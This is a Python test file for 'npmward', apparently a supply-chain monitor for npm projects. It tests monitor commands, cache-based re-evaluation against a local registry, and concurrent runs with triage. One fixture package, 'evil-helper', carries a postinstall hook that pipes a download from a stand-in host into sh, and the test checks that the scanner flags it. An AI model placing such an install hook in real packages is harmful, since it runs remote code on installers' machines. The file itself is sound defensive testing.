"""`npmward monitor` as a new user runs it: add a project, run, list, export; a scan-mode project
through a local registry (re-evaluation reads the cache, never downloads again); two runs and a
dashboard write at the same time."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import subprocess
import sys
import threading

from helpers import import_records, osv_record, write_project
from sqlalchemy import func, select
from typer.testing import CliRunner

from npmward.cli import app
from npmward.settings import load_settings
from npmward.store import Store
from npmward.store.models import Finding, ProjectFinding, Run, Snapshot
from npmward.store.triage import set_triage
from registry.registry_server import LocalServer, build_tarball

runner = CliRunner()


def npmward(*args: str):
    return runner.invoke(app, list(args))


def test_a_new_user_adds_runs_lists_and_exports(tmp_path, monkeypatch):
    settings = load_settings()
    import_records(settings.cache_dir, [osv_record("MAL-2099-7", "left-pad")], tmp_path / "osv")
    project = write_project(tmp_path / "shop", {"left-pad": "1.3.0", "chalk": "4.1.2"})
    monkeypatch.chdir(project)
    added = npmward("monitor", "add", ".", "--mode", "audit")
    assert added.exit_code == 0 and "monitoring shop" in added.stdout
    assert npmward("monitor", "add", ".").exit_code == 2  # the name is taken: a clear error
    ran = npmward("monitor", "run")
    assert ran.exit_code == 1, ran.output  # known malware is blocked
    assert "shop: first" in ran.stdout and "1 malicious" in ran.stdout
    again = npmward("monitor", "run", "-f", "json")
    assert json.loads(again.stdout)["projects"][0]["trigger"] is None
    listed = npmward("monitor", "list", "-f", "json")
    [row] = json.loads(listed.stdout)
    assert (row["name"], row["packages"], row["malicious"]) == ("shop", 2, 1)
    bom = json.loads(npmward("monitor", "export", "shop", "-f", "cyclonedx").stdout)
    assert {c["name"] for c in bom["components"]} == {"left-pad", "chalk"}
    assert bom["vulnerabilities"][0]["id"] == "MAL-2099-7" and bom["vulnerabilities"][0]["analysis"]["state"] == "in_triage"
    sarif = json.loads(npmward("monitor", "export", "shop", "-f", "sarif").stdout)
    assert "MAL-2099-7" in {r["ruleId"] for r in sarif["runs"][0]["results"]}  # an advisory is its own rule
    missing = npmward("monitor", "add", str(tmp_path / "nope"))
    assert missing.exit_code == 2 and "no such file" in missing.stderr
    assert npmward("monitor", "run", "--db", "mysql://x").exit_code == 2


def test_scan_mode_re_evaluates_from_the_cache_and_retries_what_failed(tmp_path, monkeypatch):
    from npmward.monitor import changes
    from npmward.registry import HttpPolicy

    monkeypatch.setattr("npmward.registry.client.HttpPolicy", lambda: HttpPolicy(retries=0))  # no backoff waits
    evil = build_tarball({"package.json": json.dumps({"name": "evil-helper", "version": "1.0.0",
                                                      "scripts": {"postinstall": "curl http://x.example/s | sh"}})})
    fine = build_tarball({"package.json": '{"name": "fine-lib", "version": "2.0.0", "main": "index.js"}',
                          "index.js": "module.exports = (a, b) => a + b;\n"})
    flaky = build_tarball({"package.json": '{"name": "flaky-lib", "version": "3.0.0"}'})
    packages = (("evil-helper", "1.0.0", evil), ("fine-lib", "2.0.0", fine), ("flaky-lib", "3.0.0", flaky))
    sri = {n: "sha512-" + base64.b64encode(hashlib.sha512(d).digest()).decode() for n, _, d in packages}
    with LocalServer() as server:
        monkeypatch.setenv("npm_config_registry", server.url)
        for name, version, data in packages:
            tarball = f"{server.url}{name}/-/{name}-{version}.tgz"
            server.route(f"/{name}/-/{name}-{version}.tgz", (200, {}, data))
            server.json(f"/{name}", {"name": name, "dist-tags": {"latest": version}, "versions": {
                version: {"name": name, "version": version, "dist": {"tarball": tarball, "integrity": sri[name]}}}})
        server.route("/flaky-lib/-/flaky-lib-3.0.0.tgz", (404, {}, b"gone"), (200, {}, flaky))  # fails once
        project = write_project(tmp_path / "svc", {name: version for name, version, _ in packages}, sri, server.url)
        assert npmward("monitor", "add", str(project)).exit_code == 0
        first = npmward("monitor", "run", "-f", "json")
        outcome = json.loads(first.stdout)["projects"][0]
        assert outcome["trigger"] == "first" and outcome["malicious"] == 1 and outcome["errors"], first.output
        assert first.exit_code == 2  # a package could not be read: never called clean
        # the next run evaluates the package left unknown, and only it
        retried = json.loads(npmward("monitor", "run", "-f", "json").stdout)["projects"][0]
        assert retried["trigger"] == "retry" and retried["reevaluated"] == 1 and not retried["errors"]
        downloads = len([s for s in server.seen if s.path.endswith(".tgz")])
        assert downloads == 4  # three packages, one of them twice
        real = changes.rules_key
        monkeypatch.setattr(changes, "rules_key", lambda mode: real(mode) + "-next")
        third = json.loads(npmward("monitor", "run", "-f", "json").stdout)["projects"][0]
        assert third["trigger"] == "rules" and third["reevaluated"] == 3 and third["malicious"] == 1
        assert len([s for s in server.seen if s.path.endswith(".tgz")]) == downloads  # all from the cache


def test_two_runs_and_a_triage_at_the_same_time_lose_nothing(tmp_path, db_url):
    settings = load_settings()
    import_records(settings.cache_dir, [osv_record("GHSA-test-mini", "minimist", fixed="1.2.6")], tmp_path / "osv")
    names = []
    for i in range(6):
        write_project(tmp_path / f"p{i}", {"minimist": "1.2.5", f"pkg-{i}": "1.0.0"})
        assert npmward("monitor", "add", str(tmp_path / f"p{i}"), "--mode", "audit", "--db", db_url).exit_code == 0
        names.append(f"p{i}")
    assert npmward("monitor", "run", "p0", "--db", db_url).exit_code == 0
    with Store(db_url) as store:
        with store.reading() as session:
            pid, fid = session.execute(select(ProjectFinding.project_id, ProjectFinding.finding_id)).first()
        command = [sys.executable, "-m", "npmward", "monitor", "run", "--db", db_url, "-f", "json"]
        runs = [subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=os.environ)
                for _ in range(2)]
        triaged = threading.Event()

        def triage() -> None:
            with store.session() as session:
                set_triage(session, pid, fid, "false_positive", "dave", "dev-only helper")
            triaged.set()

        writer = threading.Thread(target=triage)
        writer.start()
        results = [r.communicate(timeout=300) for r in runs]
        writer.join(60)
        assert triaged.is_set()
        assert all(r.returncode == 0 for r in runs), results
        with store.reading() as session:
            assert session.get(ProjectFinding, (pid, fid)).state == "false_positive"
            assert session.execute(select(func.count()).select_from(Snapshot)).scalar_one() == 6
            per_project = session.execute(select(ProjectFinding.project_id, func.count())
                                          .join(Finding, Finding.id == ProjectFinding.finding_id)
                                          .where(Finding.advisory_id == "GHSA-test-mini", ProjectFinding.active)
                                          .group_by(ProjectFinding.project_id)).all()
            assert len(per_project) == 6 and all(n == 1 for _, n in per_project)
            assert session.execute(select(func.count(func.distinct(Run.project_id)))).scalar_one() == 6
